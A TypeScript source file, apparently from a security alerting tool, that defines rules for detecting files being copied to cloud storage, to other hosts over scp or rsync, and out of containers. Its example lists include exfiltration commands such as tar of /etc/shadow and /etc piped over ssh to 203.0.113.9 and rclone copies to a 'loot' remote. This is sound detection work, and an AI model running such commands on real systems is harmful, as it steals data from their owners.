import type { CommandLine } from "#alert/command-line.ts";
import type { Facts } from "#alert/facts.ts";
import type { Indicator } from "../../indicator.ts";
import type { Call, Verdict } from "../execution/calls.ts";
import {
  argumentText,
  calls,
  findCall,
  findPipe,
  hasWord,
  inCommands,
  operands,
  quoteBetween,
} from "../execution/calls.ts";
import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
import { containerRuntimes, remoteCopiers } from "../execution/programs.ts";
import { behind } from "../gates.ts";
import { exfiltration } from "./data-ways.ts";

/** Copying files to other hosts, clouds, or out of containers. */

const cloudCopiers = new Set([
  "rclone",
  "megaput",
  "megacopy",
  "mega-put",
  "megatools",
  "gsutil",
  "azcopy",
  "s3cmd",
  "s5cmd",
  "mc",
  "b2",
  "aws",
  "gcloud",
  "az",
  "restic",
  "gdrive",
  "dropbox_uploader.sh",
  "onedrive",
  "ossutil",
  "coscli",
  "duplicity",
]);

export const sendsToCloudStorage: Indicator = {
  ...exfiltration,
  id: "sends-to-cloud-storage",
  behaviour: "copies files into cloud storage",
  meaning: "The storage can be anybody's account, and its address is one that everyone uses.",
  technique: "T1567.002",
  alsoTechniques: ["T1537"],
  severity: "medium",
  certainty: "weak",
  source: "https://attack.mitre.org/techniques/T1567/002/",
  match: calls(cloudCopiers, (call) => storageUpload(call)),
  examples: {
    found: [
      ran("rclone copy /srv/data remote:loot", onHost),
      ran("aws s3 cp /tmp/db.sql s3://bucket-x/", inContainer),
      ran("megaput /tmp/x.zip"),
      ran("gsutil cp -r /data gs://x"),
    ],
    ignored: [
      ran("aws s3 cp s3://bucket-x/app.tgz /opt/"),
      ran("aws s3 ls"),
      ran("rclone listremotes"),
      ran("az login"),
    ],
  },
};

export const copiesToOtherHost: Indicator = {
  ...exfiltration,
  id: "copies-to-other-host",
  behaviour: "copies files to another host (scp, rsync, sftp)",
  meaning: "It carries data out over an encrypted channel that looks like administration.",
  technique: "T1048",
  alsoTechniques: ["T1048.002", "T1020", "T1570"],
  severity: "medium",
  certainty: "weak",
  families: ["syscall", "plugin"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-incubating_rules.yaml",
  match: behind(
    { programs: remoteCopiers, needs: ["joined-commands"] },
    (facts) =>
      findCall(facts.process.command, remoteCopiers, (call) =>
        facts.container.where === "container" ? true : isRemoteTarget(call),
      ) ?? inCommands(facts, pipedIntoSsh),
  ),
  examples: {
    found: [
      ran("sh -c tar cf - /etc | ssh u@203.0.113.9 cat"),
      ran("scp /tmp/db.sql u@203.0.113.9:/in/", onHost),
      ran("rsync -a /srv/ u@203.0.113.9:/in/"),
      ran("sftp u@203.0.113.9", inContainer),
    ],
    ignored: [ran("rsync -a /srv/ /backup/", onHost), ran("scp u@host:/etc/motd .", onHost), ran("ls scp")],
  },
};

const podCopiers = new Set(["kubectl", "oc", "docker", "podman"]);
const packers = new Set(["tar"]);

export const copiesOutOfPod: Indicator = {
  ...exfiltration,
  id: "copies-out-of-pod",
  behaviour: "packs files for a copy out of the container over the control plane (kubectl cp, docker cp)",
  meaning: "The data leaves over the API server, where no network policy looks.",
  technique: "T1048",
  alsoTechniques: ["T1041", "T1609"],
  severity: "medium",
  certainty: "likely",
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-incubating_rules.yaml",
  match: behind(
    { programs: new Set([...podCopiers, ...packers]) },
    (facts) =>
      tarByRuntime(facts) ??
      findCall(
        facts.process.command,
        podCopiers,
        (call) => call.args[0]?.value === "cp" && /^[\w./-]{1,200}:/.test(operands(call)[1]?.value ?? ""),
      ),
  ),
  examples: {
    found: [
      opened("/var/lib/app/db.sqlite", "tar cf - /var/lib/app/db.sqlite", {
        "proc.pname": "containerd-shim",
        ...inContainer,
      }),
      ran("tar cf - /etc/shadow", { "proc.pname": "runc", ...inContainer }),
      ran("kubectl cp shop/web-1:/data/x.db ./x.db"),
    ],
    ignored: [
      ran("tar cf - /srv", { "proc.pname": "bash", ...inContainer }),
      ran("tar xmf - -C /tmp", { "proc.pname": "containerd-shim", ...inContainer }),
      ran("kubectl cp ./x.conf shop/web-1:/etc/x.conf"),
    ],
  },
};

function storageUpload(call: Call): Verdict {
  const words = operands(call).map(({ value }) => value);
  const text = argumentText(call);
  switch (call.program) {
    case "aws":
    case "gcloud":
    case "gsutil":
    case "s5cmd":
    case "mc": {
      if (!/\b(?:cp|sync|mv|rsync|put-object|mirror)\b/.test(text)) return false;
      const places = words.filter(
        (word) => /^(?:s3|gs):\/\//.test(word) || (call.program === "mc" && /^[\w-]{1,40}\/\w/.test(word)),
      );
      return (
        text.includes("put-object") ||
        (places.length > 0 &&
          places.includes(words.at(-1) ?? "") &&
          places.length < words.filter((word) => word.includes("/")).length)
      );
    }
    case "az":
      return /storage blob (?:upload|sync|copy)/.test(text);
    case "rclone":
      return ["copy", "sync", "move", "copyto", "moveto", "rcat"].includes(words[0] ?? "");
    case "s3cmd":
    case "b2":
    case "azcopy":
    case "ossutil":
    case "coscli":
    case "gdrive":
      return /\b(?:put|sync|copy|cp|upload|upload-file|upload_file)\b/.test(text);
    default:
      return call.args.length > 0 && call.program !== "restic" && call.program !== "duplicity";
  }
}

/** The last operand names a host: `u@host:/in/`, `rsync://host/x`. */
function isRemoteTarget(call: Call): boolean {
  const last = operands(call).at(-1)?.value ?? "";
  if (call.program === "sftp" || call.program === "lftp" || call.program === "ncftpput" || call.program === "ftpput")
    return last !== "";
  return /^(?:[\w.-]{1,64}@)?[\w.-]{1,120}:/.test(last) || /^(?:rsync|sftp|scp):\/\//.test(last);
}

function tarByRuntime(facts: Facts): string | null {
  if (facts.container.where !== "container" || facts.process.name !== "tar") return null;
  const packs = findCall(
    facts.process.command,
    packers,
    (call) => (/^-?[a-z]*c/.test(call.args[0]?.value ?? "") || hasWord(call, "--create")) && hasWord(call, "-"),
  );
  if (packs === null) return null;
  const { name } = facts.parent;
  return name === null || containerRuntimes.has(name) ? packs : null;
}

/** `tar cf - x | ssh host cat`: a backup, or not. */
function pipedIntoSsh(line: CommandLine): string | null {
  const pipe = findPipe(
    line,
    ({ program }) => program !== "echo" && program !== "printf" && program !== "yes",
    ({ program }) => program === "ssh",
  );
  return pipe && quoteBetween(line, ...pipe);
}
